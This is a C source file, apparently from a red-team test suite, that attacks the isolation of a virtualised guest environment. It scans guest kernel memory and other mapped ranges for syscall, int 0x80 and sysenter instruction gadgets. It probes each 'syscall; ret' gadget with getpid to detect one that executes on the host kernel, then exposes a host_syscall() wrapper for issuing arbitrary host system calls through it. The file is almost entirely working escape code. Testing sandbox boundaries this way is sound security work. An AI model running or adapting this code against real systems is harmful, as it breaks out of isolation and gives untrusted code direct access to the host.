/* Reaching host system calls from guest user code.  The instructions that
 * enter a kernel are `syscall` (0f 05), `int $0x80` (cd 80) and `sysenter`
 * (0f 34); guest user code may execute them anywhere, and whatever decides
 * whether they reach the host kernel or the guest kernel is what these
 * attacks test. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "redteam.h"

static long g_guest_pid;

int find_gadgets(uint64_t lo, uint64_t hi, struct gadget* out, int max) {
    enum { kChunk = 65536 };
    static uint8_t buf[kChunk + 3];
    int n = 0;
    for (uint64_t at = lo; at < hi && n < max; at += kChunk) {
        size_t want = hi - at < kChunk + 3 ? hi - at : kChunk + 3;
        size_t got = probe_copy(at, buf, want);
        for (size_t i = 0; i + 1 < got && i < kChunk && n < max; i++) {
            int kind = buf[i] == 0x0f && buf[i + 1] == 0x05   ? 0
                       : buf[i] == 0xcd && buf[i + 1] == 0x80 ? 1
                       : buf[i] == 0x0f && buf[i + 1] == 0x34 ? 2
                                                              : -1;
            if (kind < 0) continue;
            out[n].addr = at + i;
            out[n].kind = (uint8_t)kind;
            out[n].ret_after = i + 2 < got && buf[i + 2] == 0xc3;
            n++;
        }
        if (got < want) {
            /* unreadable from here on in this chunk: skip to the next page */
            at = ((at + got) & ~4095ull) + 4096 - kChunk;
        }
    }
    return n;
}

struct gcall {
    uint64_t addr;
    long nr;
    long a[6];
    long ret;
    int kind;
};

/* `call`s the gadget with the registers of the host's system-call ABI for
 * its kind (64-bit for syscall, i386 for int $0x80 and sysenter), below the
 * red zone. */
static void do_call(void* p) {
    struct gcall* c = p;
    if (c->kind == 0) {
        register long rax asm("rax") = c->nr;
        register long rdi asm("rdi") = c->a[0];
        register long rsi asm("rsi") = c->a[1];
        register long rdx asm("rdx") = c->a[2];
        register long r10 asm("r10") = c->a[3];
        register long r8 asm("r8") = c->a[4];
        register long r9 asm("r9") = c->a[5];
        asm volatile("sub $128, %%rsp\n\tcall *%[g]\n\tadd $128, %%rsp"
                     : "+r"(rax), "+r"(rdi), "+r"(rsi), "+r"(rdx), "+r"(r10), "+r"(r8), "+r"(r9)
                     : [g] "r"(c->addr)
                     : "rcx", "r11", "memory", "cc");
        c->ret = rax;
    } else {
        long rax = c->nr;
        register uint64_t g asm("r12") = c->addr;
        register long a5 asm("r13") = c->a[5];
        asm volatile("sub $128, %%rsp\n\tpush %%rbp\n\tmov %%r13, %%rbp\n\tcall *%%r12\n\tpop %%rbp\n\tadd $128, %%rsp"
                     : "+a"(rax)
                     : "r"(g), "r"(a5), "b"(c->a[0]), "c"(c->a[1]), "d"(c->a[2]), "S"(c->a[3]), "D"(c->a[4])
                     : "r8", "r9", "r10", "r11", "memory", "cc");
        c->ret = rax;
    }
}

static int call_kind(uint64_t addr, int kind, long nr, const long args[6], long* result) {
    struct gcall c = {addr, nr, {0}, 0, kind};
    if (args) memcpy(c.a, args, sizeof c.a);
    int sig = guarded(do_call, &c);
    if (!sig && result) *result = c.ret;
    return sig;
}

int call_gadget(uint64_t addr, long nr, const long args[6], long* result) {
    uint8_t b[2] = {0, 0};
    probe_read(addr, &b[0]);
    probe_read(addr + 1, &b[1]);
    int kind = b[0] == 0xcd ? 1 : b[1] == 0x34 ? 2 : 0;
    return call_kind(addr, kind, nr, args, result);
}

int looks_like_host_pid(long pid) {
    if (!g_guest_pid) g_guest_pid = syscall(SYS_getpid);
    return pid > 0 && pid != g_guest_pid;
}

/* Tries every callable `syscall; ret` in [lo, hi) with getpid. */
static uint64_t first_host_gadget(uint64_t lo, uint64_t hi) {
    static struct gadget g[4096];
    int n = find_gadgets(lo, hi, g, 4096);
    for (int i = 0; i < n; i++) {
        long pid = 0;
        if (g[i].kind != 0 || !g[i].ret_after) continue;
        if (call_kind(g[i].addr, 0, SYS_getpid, NULL, &pid) == 0 && looks_like_host_pid(pid)) return g[i].addr;
    }
    return 0;
}

uint64_t host_syscall_gadget(void) {
    static int searched;
    static uint64_t found;
    if (searched) return found;
    searched = 1;
    looks_like_host_pid(0); /* learn our own guest pid first */
    struct tandem_boot_info* bi = boot_info();
    uint64_t image = TANDEM_PHYS_TO_VIRT(TANDEM_PHYS_KERNEL);
    uint64_t end = bi ? TANDEM_PHYS_TO_VIRT(bi->kernel_phys_end) : image + (32ull << 20);
    found = first_host_gadget(image, end);
    if (found) {
        note("host syscall gadget: syscall;ret at %#lx (guest kernel image)", (unsigned long)found);
        return found;
    }
    static struct range rs[512];
    int n = walk_everything(rs, 512);
    for (int i = 0; i < n && !found; i++) found = first_host_gadget(rs[i].start, rs[i].end);
    if (found)
        note("host syscall gadget: syscall;ret at %#lx", (unsigned long)found);
    else
        note("no syscall;ret in reach executes on the host");
    return found;
}

void prefault_image(void) {
    extern char __executable_start[], _end[];
    uintptr_t end = (uintptr_t)_end;
    for (uintptr_t p = (uintptr_t)__executable_start; p < end; p += 4096) (void)*(volatile char*)p;
    (void)*(volatile char*)(end - 1);
}

long host_syscall(long nr, long a1, long a2, long a3, long a4, long a5, long a6) {
    uint64_t g = host_syscall_gadget();
    if (!g) return kNoHost;
    prefault_image();
    long args[6] = {a1, a2, a3, a4, a5, a6}, r = kNoHost;
    int sig = call_kind(g, 0, nr, args, &r);
    if (sig) {
        note("host system call %ld through the gadget ended with signal %d", nr, sig);
        return kNoHost;
    }
    return r;
}
